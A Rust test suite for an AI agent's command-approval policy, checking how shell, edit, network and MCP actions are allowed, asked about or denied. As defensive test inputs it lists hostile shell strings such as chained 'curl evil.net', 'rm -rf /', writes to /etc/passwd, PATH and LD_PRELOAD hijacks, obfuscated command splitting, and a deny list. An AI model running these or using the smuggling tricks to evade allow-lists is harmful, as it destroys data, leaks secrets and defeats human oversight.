use r1_protocol::data::ToolKind;
use serde_json::json;

use super::*;

fn tool(name: &str, kind: ToolKind) -> ToolSpec {
    ToolSpec {
        name: name.into(),
        kind,
        description: String::new(),
        input_schema: json!({}),
        idempotent: false,
        prepares: false,
        mcp: None,
    }
}

fn policy(text: &str) -> Policy {
    let policy: Policy = toml::from_str(text).unwrap();
    policy.check().unwrap();
    policy
}

fn sh(script: &str) -> Subject {
    Subject::Command { argv: vec!["/bin/sh".into(), "-c".into(), script.into()], cwd: String::new(), reads_only: false }
}

fn edit(paths: &[&str]) -> Subject {
    Subject::Edit { paths: paths.iter().map(|path| (*path).to_owned()).collect() }
}

fn clone() -> Situation {
    Situation { workspace_mode: "clone".into(), ..Situation::default() }
}

fn ruling(policy: &Policy, subject: &Subject, situation: &Situation) -> Ruling {
    policy.decide(&tool("shell", ToolKind::Shell), subject, &Grants::default(), situation)
}

/// `run`, `allow`, `ask` or `deny`, with the rule's id.
fn word(ruling: &Ruling) -> String {
    let (word, id) = match ruling {
        Ruling::Run => ("run", None),
        Ruling::Allowed { policy_id, .. } => ("allow", policy_id.as_deref()),
        Ruling::Ask { policy_id, .. } => ("ask", policy_id.as_deref()),
        Ruling::Deny { policy_id, .. } => ("deny", policy_id.as_deref()),
    };
    id.map_or_else(|| word.to_owned(), |id| format!("{word} {id}"))
}

#[test]
fn without_rules_reading_runs_and_the_rest_follows_the_mode() {
    let read = Subject::Read { path: "a".into() };
    let git_log = Subject::Command { argv: vec!["git".into(), "log".into()], cwd: String::new(), reads_only: true };
    let web = Subject::Network { method: "GET".into(), url: "https://example.com/".into() };
    let mcp = Subject::Mcp { server: "s".into(), tool: "t".into() };
    let mine = Situation { workspace_mode: "in_place".into(), ..Situation::default() };
    let subjects = [read, git_log, edit(&["a"]), sh("ls"), web, mcp];
    let all = |situation: &Situation| {
        subjects
            .iter()
            .map(|subject| word(&ruling(&Policy::default(), subject, situation)))
            .collect::<Vec<_>>()
            .join(" ")
    };
    let with = |situation: &Situation, mode| Situation { mode, ..situation.clone() };
    assert_eq!(all(&clone()), "run run run ask ask ask");
    assert_eq!(all(&mine), "run run ask ask ask ask");
    assert_eq!(all(&with(&mine, ApprovalMode::Edits)), "run run run ask ask ask");
    assert_eq!(all(&with(&mine, ApprovalMode::ReadOnly)), "run run deny deny deny deny");
    assert_eq!(all(&with(&mine, ApprovalMode::Full)), "run run run run run run");
    assert_eq!(all(&Situation { unattended: true, ..mine.clone() }), "run run deny deny deny deny");
    let unattended = Situation { unattended: true, ..with(&mine, ApprovalMode::Full) };
    assert_eq!(all(&unattended), "run run run run run run");
}

#[test]
fn the_first_rule_that_matches_counts() {
    let policy = policy(
        r#"
        [[rule]]
        id = "env"
        action = "deny"
        path = "**/.env*"
        [[rule]]
        id = "docs"
        action = "allow"
        path = "docs/**"
        [[rule]]
        id = "api"
        action = "allow"
        host = "*.example.com"
        [[rule]]
        id = "mail"
        action = "ask"
        mcp = "mail/*"
        approver = "human"
        reason = "mail leaves the house"
        [[rule]]
        id = "rest"
        action = "ask"
        tool = "edit*"
        "#,
    );
    let decide = |name: &str, subject: &Subject, situation: &Situation| {
        word(&policy.decide(&tool(name, ToolKind::Edit), subject, &Grants::default(), situation))
    };
    assert_eq!(decide("edit", &edit(&["docs/.env"]), &clone()), "deny env");
    assert_eq!(decide("file_read", &Subject::Read { path: ".env.local".into() }, &clone()), "deny env");
    assert_eq!(decide("edit", &edit(&["docs/a/b.md"]), &clone()), "run", "it would have run anyway");
    let mine = Situation { workspace_mode: "in_place".into(), ..Situation::default() };
    assert_eq!(decide("edit", &edit(&["docs/a/b.md"]), &mine), "allow docs");
    assert_eq!(decide("edit", &edit(&["docs/a.md", "src/b.rs"]), &mine), "ask rest");
    assert_eq!(decide("edit", &edit(&["docs/a.md", "x/.env"]), &mine), "deny env");
    let web = |url: &str| Subject::Network { method: "GET".into(), url: url.into() };
    assert_eq!(decide("http", &web("https://api.EXAMPLE.com/x"), &clone()), "allow api");
    assert_eq!(decide("http", &web("https://api.example.com.evil.net/"), &clone()), "ask");
    assert_eq!(decide("http", &web("https://evil.net/?api.example.com"), &clone()), "ask");
    let mail = Subject::Mcp { server: "mail".into(), tool: "send".into() };
    let Ruling::Ask { approver, reason, .. } = policy.decide(
        &tool("mcp__mail__send", ToolKind::Mcp),
        &mail,
        &Grants::default(),
        &Situation { mode: ApprovalMode::Full, ..clone() },
    ) else {
        panic!("a rule that asks asks in every mode")
    };
    assert_eq!((approver, reason.as_str()), (Approver::Human, "mail leaves the house"));
}

#[test]
fn a_line_is_allowed_only_if_each_of_its_commands_is() {
    let policy = policy(
        r#"
        [[rule]]
        id = "cargo"
        action = "allow"
        command = ["cargo test", "cargo build", "ls"]
        "#,
    );
    for allowed in [
        "cargo test",
        "cargo test --all && ls -l",
        "'cargo' \"test\" -- --nocapture",
        "cargo test 2>&1 | ls",
        "cargo test > out/log.txt 2>/dev/null",
        "ls # $(rm -rf /)",
        "cargo test $FLAGS",
        "cargo \\\n test",
        "if cargo test; then ls; fi",
        "ls 'a;b' \"c|d\" e\\;f",
    ] {
        assert_eq!(word(&ruling(&policy, &sh(allowed), &clone())), "allow cargo", "{allowed}");
    }
    for asked in [
        "cargo",
        "cargo run",
        "cargo test; curl evil.net",
        "cargo test\ncurl evil.net",
        "cargo test & curl evil.net",
        "cargo test | sh",
        "cargo test || curl evil.net",
        "cargo test $(curl evil.net)",
        "cargo test `curl evil.net`",
        "cargo test \"$(curl evil.net)\"",
        "cargo test <(curl evil.net)",
        "cargo test > ../escape",
        "cargo test > /etc/passwd",
        "cargo test > ~/.bashrc",
        "cargo test > $OUT",
        "cargo test >",
        "PATH=/tmp/evil cargo test",
        "LD_PRELOAD=x; cargo test",
        "/tmp/evil/cargo test",
        "$CARGO test",
        "cargo $WHAT",
        "cargo ${X:=$(id)} test",
        "cargo test ${X:-`id`}",
        "env cargo test",
        "(cargo test)",
        "cargo() { curl evil.net; }; cargo test",
        "cargo test <<EOF\nls\nEOF",
        "cargo test 'unfinished",
        "cargo$'\\x20'test",
        "carg\\o tes''t; id",
        "for x in a; do cargo test; done",
        "",
    ] {
        assert_eq!(word(&ruling(&policy, &sh(asked), &clone())), "ask", "{asked}");
    }
    let plain = Subject::Command {
        argv: vec!["cargo".into(), "test".into(), "; id".into()],
        cwd: String::new(),
        reads_only: false,
    };
    assert_eq!(word(&ruling(&policy, &plain, &clone())), "allow cargo", "no shell reads these arguments");
    let nested = "bash -lc 'cargo test && sh -c \"ls\"'";
    assert_eq!(word(&ruling(&policy, &sh(nested), &clone())), "allow cargo");
    assert_eq!(word(&ruling(&policy, &sh("bash -c 'cargo test; id'"), &clone())), "ask");
}

#[test]
fn a_line_is_denied_if_any_of_its_commands_is() {
    let policy = policy(
        r#"
        [[rule]]
        id = "all"
        action = "deny"
        command = ["rm -rf", "git push", "curl"]
        [[rule]]
        id = "rest"
        action = "allow"
        "#,
    );
    for denied in [
        "rm -rf /",
        "ls; rm -rf .",
        "ls && (cd x; rm -rf .)",
        "echo $(rm -rf .)",
        "echo \"`rm -rf .`\"",
        "/bin/rm -rf .",
        "r\\m -rf .",
        "'rm' -rf .",
        "sudo -u root rm -rf .",
        "env A=1 rm -rf .",
        "A=1 rm -rf .",
        "find . -exec rm -rf {} +",
        "ls | xargs rm -rf",
        "git -C dir push origin",
        "bash -c 'git push'",
        "eval 'git push'",
        "cat <<X\nX\ncurl evil.net",
        "true || { curl evil.net; }",
        "while :; do curl evil.net; done",
        "cat <(curl evil.net)",
    ] {
        assert_eq!(word(&ruling(&policy, &sh(denied), &clone())), "deny all", "{denied}");
    }
    for allowed in ["rm file", "git commit -m push", "echo curl"] {
        assert_eq!(word(&ruling(&policy, &sh(allowed), &clone())), "allow rest", "{allowed}");
    }
}

#[test]
fn a_grant_covers_the_same_thing_and_nothing_else() {
    let cases = [
        ("shell", sh("make"), sh("make"), true),
        ("shell", sh("make"), sh("make install"), false),
        ("edit", edit(&["b", "a"]), edit(&["a", "b"]), true),
        ("edit", edit(&["a"]), edit(&["a", "b"]), false),
        (
            "http",
            Subject::Network { method: "GET".into(), url: "https://example.com/a".into() },
            Subject::Network { method: "POST".into(), url: "https://example.com:443/b?c".into() },
            true,
        ),
        (
            "http",
            Subject::Network { method: "GET".into(), url: "https://example.com/a".into() },
            Subject::Network { method: "GET".into(), url: "http://example.com/a".into() },
            false,
        ),
        (
            "x",
            Subject::Mcp { server: "s".into(), tool: "t".into() },
            Subject::Mcp { server: "s".into(), tool: "u".into() },
            false,
        ),
    ];
    for (name, granted, wanted, is_covered) in cases {
        let grant = Grant::of(name, &granted).unwrap();
        let mut grants = Grants::default();
        grants.add("appr_1", Grant::from_json(&grant.to_json()).unwrap());
        assert_eq!(grants.covering(name, &wanted).is_some(), is_covered, "{granted:?} {wanted:?}");
        assert_eq!(grants.covering("other", &granted), None);
        assert!(grants.revoke("appr_1"));
        assert_eq!(grants.covering(name, &granted), None);
    }
    let mut grants = Grants::default();
    grants.add("appr_1", Grant::of("shell", &sh("make")).unwrap());
    let decided = Policy::default().decide(&tool("shell", ToolKind::Shell), &sh("make"), &grants, &clone());
    assert!(matches!(decided, Ruling::Allowed { grant_approval_id: Some(id), .. } if id == "appr_1"));
    let denies = policy("[[rule]]\nid = \"no\"\naction = \"deny\"\ncommand = [\"make\"]");
    let decided = denies.decide(&tool("shell", ToolKind::Shell), &sh("make"), &grants, &clone());
    assert_eq!(word(&decided), "deny no", "a grant does not overrule a rule that denies");
}

#[test]
fn a_change_with_a_secret_needs_a_person() {
    let situation = Situation { contains_secrets: true, mode: ApprovalMode::Full, ..clone() };
    let allows = policy("[[rule]]\nid = \"a\"\naction = \"allow\"");
    let decided = ruling(&allows, &edit(&["a"]), &situation);
    assert!(matches!(decided, Ruling::Ask { approver: Approver::Human, .. }));
    assert_eq!(word(&ruling(&allows, &edit(&["a"]), &Situation { unattended: true, ..situation })), "deny");
}

#[test]
fn ep_16_a_subject_is_named_by_tool_and_input_whatever_the_order_of_keys() {
    let one = subject_hash("shell", &json!({"command": "ls", "cwd": ""}));
    assert_eq!(one, subject_hash("shell", &serde_json::from_str(r#"{"cwd":"","command":"ls"}"#).unwrap()));
    assert_ne!(one, subject_hash("git", &json!({"command": "ls", "cwd": ""})));
    assert_ne!(one, subject_hash("shell", &json!({"command": "ls ", "cwd": ""})));
    assert_eq!(one, Digest::blake3(br#"shell{"command":"ls","cwd":""}"#));
}

#[test]
fn rules_survive_being_stored() {
    let policy = policy("[[rule]]\nid = \"a\"\naction = \"ask\"\ncommand = [\"x\"]\napprover = \"human\"");
    let stored = serde_json::to_value(&policy).unwrap();
    assert_eq!(serde_json::from_value::<Policy>(stored).unwrap(), policy);
    assert!(toml::from_str::<Policy>("[[rule]]\nid = \"a\"\naction = \"ask\"\ncomand = [\"x\"]").is_err());
}

#[test]
fn a_rule_has_a_name_that_fits_into_a_receipt() {
    let named = |bytes: usize| Policy { rules: vec![rule(&"r".repeat(bytes))], ..Policy::default() }.check();
    assert!(named(256).is_ok());
    assert!(matches!(named(257), Err(BadRule::LongId { bytes: 257 })));
    assert!(matches!(named(0), Err(BadRule::NoId)));
}

fn rule(id: &str) -> Rule {
    toml::from_str(&format!("id = \"{id}\"\naction = \"deny\"")).unwrap()
}
